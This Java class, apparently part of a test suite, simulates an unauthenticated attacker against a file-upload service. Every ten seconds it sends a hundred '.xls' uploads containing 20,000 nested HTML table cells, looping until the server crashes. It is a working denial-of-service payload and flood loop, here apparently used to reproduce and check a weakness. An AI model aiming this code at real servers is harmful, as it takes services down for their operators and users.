package cn.kehui.killed;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.Queue;
import java.util.UUID;

/**
 * Somebody without an account who hands in files that no reader can read to its end, one after
 * another, until the server is gone.
 */
final class Attacker implements Runnable {
    private static final String PAGE = "<html><body>" + "<table><tr><td>".repeat(20_000);

    private final String address;
    private final Queue<String> acknowledged;
    private final HttpClient http =
            HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    /**
     * @param acknowledged gets the name of every file that the server said it has
     */
    Attacker(String address, Queue<String> acknowledged) {
        this.address = address;
        this.acknowledged = acknowledged;
    }

    @Override
    public void run() {
        try {
            var collection = UUID.randomUUID();
            for (int number = 0; ; number++) {
                var name = collection + "-" + number + ".xls";
                if (hand(collection, name)) {
                    acknowledged.add(name);
                }
                // ten files a second: what is slow is the reading
                Thread.sleep(100);
            }
        } catch (IOException e) {
            // the server is gone, as it should be
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private boolean hand(UUID collection, String name) throws IOException, InterruptedException {
        var body = new ByteArrayOutputStream();
        body.writeBytes(
                ("--part\r\nContent-Disposition: form-data; name=\"form\"\r\n\r\nweek-statistics@2025\r\n"
                                + "--part\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                                + name
                                + "\"\r\n\r\n"
                                + PAGE
                                + name
                                + "\r\n--part--\r\n")
                        .getBytes(UTF_8));
        var request =
                HttpRequest.newBuilder(
                                URI.create(address + "/collections/" + collection + "/files"))
                        .timeout(Duration.ofSeconds(20))
                        .header("Accept", "application/json")
                        .header("Content-Type", "multipart/form-data; boundary=part")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray()))
                        .build();
        return http.send(request, HttpResponse.BodyHandlers.discarding()).statusCode() == 200;
    }
}
